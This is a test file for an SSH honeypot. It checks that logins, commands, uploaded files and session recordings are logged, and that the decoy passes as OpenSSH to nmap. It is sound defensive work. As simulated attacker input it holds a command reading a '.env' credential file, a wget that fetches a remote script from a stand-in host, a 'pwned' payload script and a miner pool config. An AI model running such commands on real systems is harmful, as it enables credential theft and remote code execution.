import { createHash } from "node:crypto"
import * as fs from "node:fs"
import * as os from "node:os"
import * as path from "node:path"
import { afterAll, describe, expect, it } from "@effect/vitest"
import { Effect } from "effect"
import { MAX_UPLOAD_BYTES, openUpload, UploadBudget } from "../../src/honeypots/ssh/Capture.js"
import { sshHoneypot } from "../../src/honeypots/ssh/index.js"
import { ScpSink, type ScpStep } from "../../src/honeypots/ssh/Scp.js"
import {
  CLIENT_OPTIONS,
  closeHandle,
  eventually,
  floodWrites,
  openForWrite,
  sftp,
  sshClient,
  startSsh
} from "./sshClient.js"
import { eventsOf, nmapService, nmapServiceXml, run, TestLayer, waitForEvents } from "./support.js"

const artifacts = fs.mkdtempSync(path.join(os.tmpdir(), "decnet-ssh-"))
afterAll(() => fs.rmSync(artifacts, { recursive: true, force: true }))
const layer = TestLayer({ artifactsDir: artifacts })

const start = Effect.gen(function* () {
  const [listener] = yield* sshHoneypot.start({ host: "127.0.0.1", port: () => 0 })
  return listener!.port
})

/** OpenSSH `sftp -b -` as root with the default password: `input` is the batch (one command per line). */
const sftpBatch = (port: number, input: string) =>
  run(
    "sshpass",
    [
      "-p",
      "admin",
      "sftp",
      "-o",
      "BatchMode=no",
      ...CLIENT_OPTIONS,
      "-P",
      String(port),
      "-b",
      "-",
      "root@127.0.0.1"
    ],
    { input }
  )

const sshArgs = (port: number, user = "root") => [...CLIENT_OPTIONS, "-p", String(port), `${user}@127.0.0.1`]

describe("ssh honeypot", () => {
  it.live("exec: logs the credential and the command, answers from the fake shell", () =>
    Effect.gen(function* () {
      const port = yield* start
      const r = yield* run("sshpass", [
        "-p",
        "admin",
        "ssh",
        ...sshArgs(port),
        "uname -a; cat /root/projects/.env"
      ])
      expect(r.stdout).toContain("Linux decky-01 5.15.0-88-generic")
      expect(r.stdout).toContain("DB_PASS=changeme123")
      const es = yield* waitForEvents((es) => es.some((e) => e.type === "command"))
      const auth = es.filter((e) => e.type === "auth_attempt")
      expect(auth).toHaveLength(1)
      expect(auth[0]!.fields).toMatchObject({
        username: "root",
        principal: "root",
        secret_printable: "admin",
        secret_b64: Buffer.from("admin").toString("base64"),
        secret_kind: "plaintext",
        src_ip: "127.0.0.1"
      })
      const cmd = es.filter((e) => e.type === "command")
      expect(cmd).toHaveLength(1)
      expect(cmd[0]!.fields).toMatchObject({
        cmd: "uname -a; cat /root/projects/.env",
        uid: "0",
        user: "root",
        src_ip: "127.0.0.1",
        pwd: "/root"
      })
      expect(cmd[0]!.msg).toBe(
        "CMD uid=0 user=root src=127.0.0.1 pwd=/root cmd=uname -a; cat /root/projects/.env"
      )
    }).pipe(Effect.provide(layer), Effect.scoped)
  )

  it.live("wrong password: attempts logged, permission denied, no command", () =>
    Effect.gen(function* () {
      const port = yield* start
      const r = yield* run("sshpass", [
        "-p",
        "hunter2",
        "ssh",
        "-o",
        "NumberOfPasswordPrompts=2",
        ...sshArgs(port),
        "id"
      ])
      expect([5, 255]).toContain(r.code)
      const auth = yield* eventsOf("auth_attempt")
      expect(auth.length).toBeGreaterThanOrEqual(1)
      expect(
        auth.every((a) => a.fields.secret_printable === "hunter2" && a.fields.principal === "root")
      ).toBe(true)
      expect(yield* eventsOf("command")).toHaveLength(0)
    }).pipe(Effect.provide(layer), Effect.scoped)
  )

  it.live("interactive pty: commands logged, asciicast v2 recording saved", () =>
    Effect.gen(function* () {
      const port = yield* start
      const r = yield* run("sshpass", ["-p", "admin", "ssh", "-tt", ...sshArgs(port, "ubuntu")], {
        input: "whoami\ncd /tmp\npwd\nexit\n"
      })
      expect(r.stdout).toContain("Welcome to Ubuntu 22.04.3 LTS (GNU/Linux 5.15.0-88-generic x86_64)")
      expect(r.stdout).toContain("ubuntu@decky-01:~$ ")
      const es = yield* waitForEvents((es) => es.some((e) => e.type === "session_recorded"))
      const cmds = es.filter((e) => e.type === "command").map((e) => e.fields.cmd)
      expect(cmds).toEqual(["whoami", "cd /tmp", "pwd", "exit"])
      expect(es.find((e) => e.fields.cmd === "pwd")!.fields.pwd).toBe("/tmp")
      const rec = es.find((e) => e.type === "session_recorded")!
      expect(rec.fields).toMatchObject({ service: "ssh", src_ip: "127.0.0.1", truncated: "false" })
      const cast = fs.readFileSync(rec.fields.path!, "utf8").trim().split("\n")
      expect(JSON.parse(cast[0]!)).toMatchObject({ version: 2 })
      const evs = cast.slice(1).map((l) => JSON.parse(l) as [number, string, string])
      expect(evs.some(([, k, d]) => k === "o" && d.includes("ubuntu\r\n"))).toBe(true)
      expect(evs.some(([, k]) => k === "i")).toBe(true)
    }).pipe(Effect.provide(layer), Effect.scoped)
  )

  it.live("scp -O upload is captured with its sha256", () =>
    Effect.gen(function* () {
      const port = yield* start
      const local = path.join(artifacts, "payload.sh")
      const body = `#!/bin/sh\necho pwned ${Math.random()}\n`
      fs.writeFileSync(local, body)
      const r = yield* run("sshpass", [
        "-p",
        "admin",
        "scp",
        "-O",
        ...CLIENT_OPTIONS,
        "-P",
        String(port),
        local,
        "root@127.0.0.1:/tmp/x"
      ])
      expect(r.code).toBe(0)
      const es = yield* waitForEvents((es) => es.some((e) => e.type === "file_captured"))
      const cap = es.find((e) => e.type === "file_captured")!
      const sha = createHash("sha256").update(body).digest("hex")
      expect(cap.fields).toMatchObject({
        sha256: sha,
        size: String(body.length),
        orig_path: "/tmp/x",
        src_ip: "127.0.0.1",
        ssh_user: "root"
      })
      expect(fs.readFileSync(path.join(artifacts, "ssh", "captured", cap.fields.stored_as!), "utf8")).toBe(
        body
      )
    }).pipe(Effect.provide(layer), Effect.scoped)
  )

  it.live("default scp (SFTP protocol) upload is captured", () =>
    Effect.gen(function* () {
      const port = yield* start
      const local = path.join(artifacts, "miner.cfg")
      const body = `{"pool":"stratum+tcp://203.0.113.5:3333","nonce":${Math.random()}}`
      fs.writeFileSync(local, body)
      const r = yield* run("sshpass", [
        "-p",
        "admin",
        "scp",
        ...CLIENT_OPTIONS,
        "-P",
        String(port),
        local,
        "root@127.0.0.1:/dev/shm/"
      ])
      expect(r.stderr).toBe("")
      expect(r.code).toBe(0)
      const es = yield* waitForEvents((es) => es.some((e) => e.type === "file_captured"))
      expect(es.find((e) => e.type === "file_captured")!.fields).toMatchObject({
        sha256: createHash("sha256").update(body).digest("hex"),
        orig_path: "/dev/shm/miner.cfg"
      })
    }).pipe(Effect.provide(layer), Effect.scoped)
  )

  it.live("sftp batch put is captured", () =>
    Effect.gen(function* () {
      const port = yield* start
      const local = path.join(artifacts, "tool.bin")
      const body = Buffer.from(Array.from({ length: 70_000 }, (_, i) => i % 251))
      fs.writeFileSync(local, body)
      const r = yield* sftpBatch(port, `put ${local} /tmp/tool.bin\n`)
      expect(r.code).toBe(0)
      const es = yield* waitForEvents((es) => es.some((e) => e.type === "file_captured"))
      const cap = es.find((e) => e.type === "file_captured")!
      expect(cap.fields).toMatchObject({
        sha256: createHash("sha256").update(body).digest("hex"),
        size: "70000",
        orig_path: "/tmp/tool.bin"
      })
    }).pipe(Effect.provide(layer), Effect.scoped)
  )

  it.live("an SFTP client that floods WRITEs past the instance's budget: file_skipped buffer_full", () =>
    Effect.gen(function* () {
      // Uploads stream to disk, so a client that waits for its replies never fills the budget; one that
      // sends 8 MiB of WRITEs without waiting outruns the disk, and its upload is dropped, not held.
      const { port, budget } = yield* startSsh({ upload_buffer_mb: 1 })
      const client = yield* sshClient(port)
      const s = yield* sftp(client)
      const handle = yield* openForWrite(s, "/tmp/big.bin")
      yield* floodWrites(s, handle, Buffer.alloc(32 * 1024, 0x5a), 256)
      yield* closeHandle(s, handle)
      const small = path.join(artifacts, "small.bin")
      fs.writeFileSync(small, Buffer.alloc(200_000, 0x41))
      const r = yield* sftpBatch(port, `put ${small} /tmp/small.bin\n`)
      expect(r.code).toBe(0)
      const es = yield* waitForEvents((es) =>
        es.some((e) => e.type === "file_captured" && e.fields.orig_path === "/tmp/small.bin")
      )
      const skipped = es.find((e) => e.type === "file_skipped" && e.fields.orig_path === "/tmp/big.bin")
      expect(skipped?.fields).toMatchObject({
        reason: "buffer_full",
        size: String(8 * 1024 * 1024),
        ssh_user: "root"
      })
      expect(es.some((e) => e.type === "file_captured" && e.fields.orig_path === "/tmp/big.bin")).toBe(false)
      expect(budget.peak).toBeLessThanOrEqual(budget.limit)
      expect(
        yield* eventually(
          () => budget.held,
          (h) => h === 0
        )
      ).toBe(0)
    }).pipe(Effect.provide(layer), Effect.scoped)
  )

  it.live("public key offered: logged with its fingerprint and rejected; keyboard-interactive logged", () =>
    Effect.gen(function* () {
      const port = yield* start
      const key = path.join(artifacts, `id_ed25519_${Date.now()}`)
      yield* run("ssh-keygen", ["-q", "-t", "ed25519", "-N", "", "-f", key])
      const pub = fs.readFileSync(`${key}.pub`, "utf8").split(" ")[1]!
      const fp = `SHA256:${createHash("sha256").update(Buffer.from(pub, "base64")).digest("base64").replace(/=+$/, "")}`
      const r = yield* run("ssh", [
        "-o",
        "StrictHostKeyChecking=no",
        "-o",
        "UserKnownHostsFile=/dev/null",
        "-o",
        "BatchMode=yes",
        "-o",
        "IdentitiesOnly=yes",
        "-i",
        key,
        "-o",
        "LogLevel=ERROR",
        "-p",
        String(port),
        "deploy@127.0.0.1",
        "id"
      ])
      expect(r.code).toBe(255)
      const es = yield* waitForEvents((es) => es.some((e) => e.fields.secret_kind === "publickey"))
      const pk = es.find((e) => e.fields.secret_kind === "publickey")!
      expect(pk.fields).toMatchObject({
        principal: "deploy",
        fingerprint: fp,
        secret_printable: fp,
        secret_b64: pub,
        key_algo: "ssh-ed25519",
        src_ip: "127.0.0.1"
      })

      const ki = yield* run("sshpass", [
        "-p",
        "s3cr3t!",
        "ssh",
        "-o",
        "PreferredAuthentications=keyboard-interactive",
        "-o",
        "NumberOfPasswordPrompts=1",
        ...sshArgs(port, "oracle"),
        "id"
      ])
      expect(ki.code).toBe(255)
      const kiEvents = yield* waitForEvents((es) =>
        es.some((e) => e.fields.method === "keyboard-interactive")
      )
      expect(kiEvents.find((e) => e.fields.method === "keyboard-interactive")!.fields).toMatchObject({
        principal: "oracle",
        secret_printable: "s3cr3t!",
        secret_kind: "plaintext",
        src_ip: "127.0.0.1"
      })
    }).pipe(Effect.provide(layer), Effect.scoped)
  )

  it.live("exec exit status follows the fake shell ($? of the last command)", () =>
    Effect.gen(function* () {
      const port = yield* start
      const missing = yield* run("sshpass", ["-p", "admin", "ssh", ...sshArgs(port), "nosuchtool -x"])
      expect(missing.code).toBe(127)
      expect(missing.stdout).toBe("bash: nosuchtool: command not found\n")
      const wget = yield* run("sshpass", [
        "-p",
        "admin",
        "ssh",
        ...sshArgs(port),
        "wget http://203.0.113.7/x.sh"
      ])
      expect(wget.code).toBe(4)
      expect(wget.stdout).toContain("failed: Temporary failure in name resolution.")
    }).pipe(Effect.provide(layer), Effect.scoped)
  )

  it.live(
    "nmap -sV sees OpenSSH 8.9p1 Ubuntu",
    () =>
      Effect.gen(function* () {
        const port = yield* start
        const xml = yield* nmapServiceXml(port)
        const svc = nmapService(xml)
        expect(svc.name).toBe("ssh")
        expect(svc.product).toBe("OpenSSH")
        expect(svc.version).toBe("8.9p1 Ubuntu 3ubuntu0.4")
        expect(svc.extrainfo).toBe("Ubuntu Linux; protocol 2.0")
        expect(xml.toLowerCase()).not.toContain("honeypot")
      }).pipe(Effect.provide(layer), Effect.scoped),
    240_000
  )
})

/** Replay scp steps as the channel would: files with their bytes, and the acknowledgements sent. */
const replay = (
  steps: ReadonlyArray<ScpStep>,
  state: { files: Array<[string, string]>; acks: number; fatal: number }
) => {
  for (const step of steps) {
    if (step._tag === "File") {
      state.files.push([step.path, ""])
      state.acks++
    } else if (step._tag === "Data") {
      const last = state.files[state.files.length - 1]!
      last[1] += step.chunk.toString()
    } else if (step._tag === "FileEnd" || step._tag === "Ack") state.acks++
    else state.fatal++
  }
}

const quarantine = (limit: number) => ({
  dir: fs.mkdtempSync(path.join(artifacts, "q-")),
  budget: new UploadBudget(limit)
})
const incoming = (dir: string) =>
  fs.existsSync(path.join(dir, ".incoming")) ? fs.readdirSync(path.join(dir, ".incoming")) : []

describe("scp sink (pure)", () => {
  it("handles headers, data and trailers split across reads, directories, and bad input", () => {
    const sink = new ScpSink("/tmp", true)
    const wire = Buffer.concat([
      Buffer.from("T1700000000 0 1700000000 0\nD0755 0 kit\nC0644 5 a.sh\nhel"),
      Buffer.from("lo\0C0600 0 empty\n\0E\n")
    ])
    const state = { files: [] as Array<[string, string]>, acks: 0, fatal: 0 }
    for (let i = 0; i < wire.length; i += 3) replay(sink.feed(wire.subarray(i, i + 3)), state)
    expect(state.fatal).toBe(0)
    // T, D, C, end of a.sh, C, end of empty, E.
    expect(state.acks).toBe(7)
    expect(state.files).toEqual([
      ["/tmp/kit/a.sh", "hello"],
      ["/tmp/kit/empty", ""]
    ])
    const bad = new ScpSink("/tmp/x", false).feed(Buffer.from("Xbogus\n"))
    expect(bad.map((s) => s._tag)).toEqual(["Fatal"])
    expect(new ScpSink("/tmp/x", false).feed(Buffer.alloc(5000, 0x41)).map((s) => s._tag)).toEqual(["Fatal"])
  })
})

describe("streamed uploads (Capture)", () => {
  it.effect("an upload past the cap is skipped at once and holds nothing", () =>
    Effect.gen(function* () {
      const q = quarantine(2 * MAX_UPLOAD_BYTES)
      const u = yield* openUpload(q, "/tmp/big")
      expect(u.write(Buffer.alloc(1024), 0)).toBeUndefined()
      // Positional writes count toward the cap too: a sparse write past it is refused.
      expect(u.write(Buffer.alloc(20), MAX_UPLOAD_BYTES - 10)).toBe("too_large")
      expect(u.skipReason).toBe("too_large")
      expect(u.received).toBe(1044)
      expect(u.write(Buffer.alloc(100), 1024)).toBe("too_large")
      expect(u.received).toBe(1144)
      yield* u.discard()
      expect(q.budget.held).toBe(0)
      expect(incoming(q.dir)).toEqual([])
    })
  )

  it.effect(
    "uploads share one budget of bytes not yet on disk: past it they are skipped as buffer_full",
    () =>
      Effect.gen(function* () {
        const q = quarantine(10)
        const a = yield* openUpload(q, "/tmp/a")
        const b = yield* openUpload(q, "/tmp/b")
        // Within one tick no disk write can complete, so everything written is still held.
        expect(a.write(Buffer.from("123456"), 0)).toBeUndefined()
        expect(b.write(Buffer.from("1234"), 0)).toBeUndefined()
        expect(q.budget.held).toBe(10)
        expect(b.write(Buffer.from("x"), 4)).toBe("buffer_full")
        expect(b.write(Buffer.from("yy"), 5)).toBe("buffer_full")
        // b keeps counting what arrived (the event reports it) but holds nothing more.
        expect(b.received).toBe(7)
        expect(q.budget.held).toBe(10)
        expect(q.budget.peak).toBe(10)
        const done = yield* a.complete()
        expect(done.size).toBe(6)
        expect(fs.readFileSync(a.tmpPath, "utf8")).toBe("123456")
        yield* b.discard()
        expect(q.budget.held).toBe(0)
        expect(fs.existsSync(b.tmpPath)).toBe(false)
      })
  )

  it.effect("out-of-order writes land at their offsets and are hashed from the file", () =>
    Effect.gen(function* () {
      const q = quarantine(1024)
      const u = yield* openUpload(q, "/tmp/o")
      u.write(Buffer.from("world"), 6)
      u.write(Buffer.from("hello "), 0)
      const done = yield* u.complete()
      expect(fs.readFileSync(u.tmpPath, "utf8")).toBe("hello world")
      expect(done).toEqual({ size: 11, sha256: createHash("sha256").update("hello world").digest("hex") })
      yield* u.discard()
    })
  )
})
